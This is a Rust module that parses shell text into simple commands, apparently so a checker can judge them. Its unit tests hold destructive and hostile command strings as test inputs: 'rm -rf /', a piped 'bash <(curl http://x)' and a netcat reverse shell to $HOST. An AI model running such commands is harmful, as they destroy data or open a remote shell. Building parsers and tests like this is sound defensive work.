//! Shell text as a flat list of simple commands, by a real parser: a here-document is one thing, a quoted word is data,
//! and a command inside `$(…)`, a loop or `sh -c '…'` is a command like any other.

use brush_parser::ast::{
    AndOr, AssignmentName, Command as Node, CommandPrefixOrSuffixItem as Item, CompoundCommand,
    CompoundList, IoFileRedirectKind, IoFileRedirectTarget, IoRedirect, Pipeline, SimpleCommand,
    Word as Raw,
};
use brush_parser::word::{WordPiece, WordPieceWithSource};
use brush_parser::{Parser, ParserOptions};

/// How deep commands may nest, and how long one text may be: a parser that recurses must not be led astray.
const DEPTH: usize = 24;
const LONGEST: usize = 64 * 1024;

/// One simple command.
#[derive(Clone, Debug, Default)]
pub struct Command {
    /// Line in the text, from 1.
    pub line: usize,
    pub words: Vec<Word>,
    pub redirects: Vec<Redirect>,
    /// The text of a here-document or here-string on its standard input.
    pub input: Option<String>,
    /// Names assigned in front of it, or by it alone.
    pub assigns: Vec<String>,
    /// Which pipeline it belongs to, and its place in it.
    pub pipeline: (usize, usize),
    /// The command stands behind `||`.
    pub is_otherwise: bool,
    /// It runs inside `$(…)` or `<(…)`; the program that reads its output.
    pub read_by: Option<String>,
}

/// One word after quotes are taken off.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Word {
    /// Expansions stand in it as they were written: `$NAME`, `$(…)`.
    pub text: String,
    /// All of it was quoted: it is data, not syntax.
    pub is_quoted: bool,
    /// Names of variables it expands.
    pub expands: Vec<String>,
}

/// A redirection to or from a file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Redirect {
    pub writes: bool,
    pub fd: Option<i32>,
    pub target: String,
}

/// Why a text is no shell.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct NotShell {
    pub line: usize,
    pub why: String,
}

/// Parses shell text.
pub fn parse(text: &str) -> Result<Vec<Command>, NotShell> {
    let mut flat = Flat { options: ParserOptions::default(), commands: Vec::new(), pipelines: 0 };
    flat.text(text, 0, None, 0)?;
    Ok(flat.commands)
}

struct Flat {
    options: ParserOptions,
    commands: Vec<Command>,
    pipelines: usize,
}

impl Flat {
    fn text(
        &mut self,
        text: &str,
        above: usize,
        read_by: Option<&str>,
        depth: usize,
    ) -> Result<(), NotShell> {
        if text.len() > LONGEST || depth > DEPTH || nesting(text) > DEPTH {
            return Err(NotShell {
                line: above + 1,
                why: "too long or too deeply nested to be judged".into(),
            });
        }
        let program =
            Parser::new(text.as_bytes(), &self.options).parse_program().map_err(|error| {
                let line = match &error {
                    brush_parser::ParseError::ParsingNear(at) => at.line,
                    _ => text.lines().count().max(1),
                };
                NotShell { line: above + line, why: error.to_string() }
            })?;
        for list in &program.complete_commands {
            self.list(list, &Place { above, read_by, depth });
        }
        Ok(())
    }

    fn list(&mut self, list: &CompoundList, place: &Place<'_>) {
        for item in &list.0 {
            self.pipeline(&item.0.first, false, place);
            for next in &item.0.additional {
                match next {
                    AndOr::And(pipeline) => self.pipeline(pipeline, false, place),
                    AndOr::Or(pipeline) => self.pipeline(pipeline, true, place),
                }
            }
        }
    }

    fn pipeline(&mut self, pipeline: &Pipeline, is_otherwise: bool, place: &Place<'_>) {
        self.pipelines += 1;
        let number = self.pipelines;
        for (at, node) in pipeline.seq.iter().enumerate() {
            match node {
                Node::Simple(simple) => self.simple(simple, (number, at), is_otherwise, place),
                Node::Compound(compound, _) => self.compound(compound, place),
                Node::Function(function) => self.compound(&function.body.0, place),
                Node::ExtendedTest(..) => {}
            }
        }
    }

    fn compound(&mut self, compound: &CompoundCommand, place: &Place<'_>) {
        match compound {
            CompoundCommand::BraceGroup(group) => self.list(&group.list, place),
            CompoundCommand::Subshell(shell) => self.list(&shell.list, place),
            CompoundCommand::ForClause(each) => {
                self.commands.push(Command {
                    assigns: vec![each.variable_name.clone()],
                    ..Command::default()
                });
                self.list(&each.body.list, place);
            }
            CompoundCommand::ArithmeticForClause(each) => self.list(&each.body.list, place),
            CompoundCommand::WhileClause(each) | CompoundCommand::UntilClause(each) => {
                self.list(&each.0, place);
                self.list(&each.1.list, place);
            }
            CompoundCommand::IfClause(choice) => {
                self.list(&choice.condition, place);
                self.list(&choice.then, place);
                for other in choice.elses.iter().flatten() {
                    other.condition.iter().for_each(|list| self.list(list, place));
                    self.list(&other.body, place);
                }
            }
            CompoundCommand::CaseClause(choice) => {
                choice
                    .cases
                    .iter()
                    .filter_map(|case| case.cmd.as_ref())
                    .for_each(|list| self.list(list, place));
            }
            CompoundCommand::Arithmetic(_) | CompoundCommand::Coprocess(_) => {}
        }
    }

    fn simple(
        &mut self,
        simple: &SimpleCommand,
        pipeline: (usize, usize),
        is_otherwise: bool,
        place: &Place<'_>,
    ) {
        let mut command = Command {
            pipeline,
            is_otherwise,
            read_by: place.read_by.map(str::to_owned),
            ..Command::default()
        };
        let mut inner = Vec::new();
        for item in simple.prefix.iter().flat_map(|prefix| &prefix.0) {
            self.item(item, &mut command, &mut inner, place);
        }
        if let Some(name) = &simple.word_or_name {
            self.word(name, &mut command, &mut inner, place);
        }
        for item in simple.suffix.iter().flat_map(|suffix| &suffix.0) {
            self.item(item, &mut command, &mut inner, place);
        }
        if command.line == 0 {
            command.line = place.above + 1;
        }
        let (line, reader) = (command.line, command.words.first().map(|word| word.text.clone()));
        self.commands.push(command);
        for text in inner {
            let depth = place.depth + 1;
            // What cannot be parsed inside a substitution is the shell's to complain about; the outer command stands.
            let _ = self.text(&text, line.saturating_sub(1), reader.as_deref(), depth);
        }
    }

    fn item(
        &mut self,
        item: &Item,
        command: &mut Command,
        inner: &mut Vec<String>,
        place: &Place<'_>,
    ) {
        match item {
            Item::Word(word) => self.word(word, command, inner, place),
            Item::AssignmentWord(assignment, word) => {
                match &assignment.name {
                    AssignmentName::VariableName(name)
                    | AssignmentName::ArrayElementName(name, _) => {
                        command.assigns.push(name.clone());
                    }
                }
                let mut aside = Command::default();
                self.word(word, &mut aside, inner, place);
                command.line = command.line.max(aside.line);
                if !command.words.is_empty() {
                    command.words.append(&mut aside.words);
                }
            }
            Item::ProcessSubstitution(_, shell) => {
                let reader = command.words.first().map(|word| word.text.clone());
                self.list(
                    &shell.list,
                    &Place { read_by: reader.as_deref(), depth: place.depth + 1, ..*place },
                );
                command.words.push(Word { text: "<(…)".into(), ..Word::default() });
            }
            Item::IoRedirect(redirect) => match redirect {
                IoRedirect::File(fd, kind, target) => {
                    let writes = !matches!(
                        kind,
                        IoFileRedirectKind::Read | IoFileRedirectKind::DuplicateInput
                    );
                    let target = match target {
                        IoFileRedirectTarget::Filename(word)
                        | IoFileRedirectTarget::Duplicate(word) => self.plain(word, inner).text,
                        IoFileRedirectTarget::Fd(fd) => format!("&{fd}"),
                        IoFileRedirectTarget::ProcessSubstitution(_, shell) => {
                            let reader = command.words.first().map(|word| word.text.clone());
                            self.list(&shell.list, &Place { read_by: reader.as_deref(), ..*place });
                            "<(…)".to_owned()
                        }
                    };
                    command.redirects.push(Redirect { writes, fd: *fd, target });
                }
                IoRedirect::HereDocument(_, document) => {
                    command.input = Some(document.doc.value.clone());
                }
                IoRedirect::HereString(_, word) => {
                    command.input = Some(self.plain(word, inner).text);
                }
                IoRedirect::OutputAndError(word, _) => {
                    let target = self.plain(word, inner).text;
                    command.redirects.push(Redirect { writes: true, fd: None, target });
                }
            },
        }
    }

    fn word(
        &mut self,
        word: &Raw,
        command: &mut Command,
        inner: &mut Vec<String>,
        place: &Place<'_>,
    ) {
        if command.line == 0 {
            command.line = place.above + word.loc.as_ref().map_or(1, |at| at.start.line);
        }
        let word = self.plain(word, inner);
        command.words.push(word);
    }

    fn plain(&self, raw: &Raw, inner: &mut Vec<String>) -> Word {
        let Ok(pieces) = brush_parser::word::parse(&raw.value, &self.options) else {
            return Word { text: raw.value.clone(), ..Word::default() };
        };
        let is_quoted = !pieces.is_empty() && pieces.iter().all(|piece| is_quotes(&piece.piece));
        let mut word = Word { is_quoted, ..Word::default() };
        unquote(&pieces, &raw.value, &mut word, inner);
        word
    }
}

struct Place<'a> {
    /// Lines above the text being parsed.
    above: usize,
    read_by: Option<&'a str>,
    depth: usize,
}

fn is_quotes(piece: &WordPiece) -> bool {
    matches!(
        piece,
        WordPiece::SingleQuotedText(_)
            | WordPiece::AnsiCQuotedText(_)
            | WordPiece::DoubleQuotedSequence(_)
    )
}

fn unquote(pieces: &[WordPieceWithSource], raw: &str, word: &mut Word, inner: &mut Vec<String>) {
    for WordPieceWithSource { piece, start_index, end_index } in pieces {
        match piece {
            WordPiece::Text(text)
            | WordPiece::SingleQuotedText(text)
            | WordPiece::AnsiCQuotedText(text) => {
                word.text.push_str(text);
            }
            WordPiece::EscapeSequence(text) => {
                word.text.push_str(text.strip_prefix('\\').unwrap_or(text));
            }
            WordPiece::DoubleQuotedSequence(inside)
            | WordPiece::GettextDoubleQuotedSequence(inside) => {
                unquote(inside, raw, word, inner);
            }
            WordPiece::CommandSubstitution(text)
            | WordPiece::BackquotedCommandSubstitution(text) => {
                inner.push(text.clone());
                word.text.push_str("$(…)");
            }
            WordPiece::ParameterExpansion(_) => {
                let written = raw.get(*start_index..*end_index).unwrap_or("$");
                let name = written.trim_start_matches(['$', '{']);
                let end = name
                    .find(|c: char| !c.is_ascii_alphanumeric() && c != '_')
                    .unwrap_or(name.len());
                word.expands.push(name.get(..end).unwrap_or_default().to_owned());
                word.text.push_str(written);
            }
            WordPiece::TildeExpansion(_) => word.text.push('~'),
            WordPiece::ArithmeticExpression(_) => word.text.push_str("$((…))"),
        }
    }
}

/// The deepest nesting of brackets in a text, quotes or not: more than a person writes is not worth a stack.
fn nesting(text: &str) -> usize {
    let (mut depth, mut deepest) = (0usize, 0);
    for byte in text.bytes() {
        match byte {
            b'(' | b'{' => depth += 1,
            b')' | b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
        deepest = deepest.max(depth);
    }
    // `if`, `while` and `case` nest without brackets.
    let words = text
        .split_ascii_whitespace()
        .filter(|word| matches!(*word, "if" | "while" | "until" | "for" | "case"));
    deepest.max(words.count().saturating_sub(text.matches('\n').count().min(200)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn programs(text: &str) -> Vec<String> {
        parse(text)
            .unwrap()
            .iter()
            .filter_map(|c| c.words.first())
            .map(|word| word.text.clone())
            .collect()
    }

    #[test]
    fn every_command_is_found_and_no_data() {
        assert_eq!(
            programs("sudo rm -rf /tmp/x && echo 'rm -rf /' | tee log"),
            ["sudo", "echo", "tee"]
        );
        assert_eq!(
            programs("x=$(docker ps -q); for i in $x; do docker rm $i; done"),
            ["docker", "docker"]
        );
        assert_eq!(programs("cat <<'E'\nrm -rf /\nE"), ["cat"]);
        assert_eq!(programs("bash <(curl http://x)"), ["curl", "bash"]);
        assert_eq!(programs("# only a comment"), Vec::<String>::new());
    }

    #[test]
    fn lines_and_quotes_are_known() {
        let commands = parse("true\n\nnft -f - <<E\ntable x\nE\nnc -e \"/bin/sh\" $HOST").unwrap();
        assert_eq!(commands[1].line, 3);
        assert_eq!(commands[1].input.as_deref(), Some("table x\n"));
        assert_eq!(commands[2].line, 6);
        assert!(commands[2].words[2].is_quoted && commands[2].words[2].text == "/bin/sh");
        assert_eq!(commands[2].words[3].expands, ["HOST"]);
    }

    #[test]
    fn what_is_no_shell_says_where() {
        assert!(parse("int main(int argc) {\n set({ A; });\n}").is_err());
        assert!(parse("docker run <image-name>").is_err());
        assert!(parse(&"(".repeat(100_000)).is_err());
    }
}
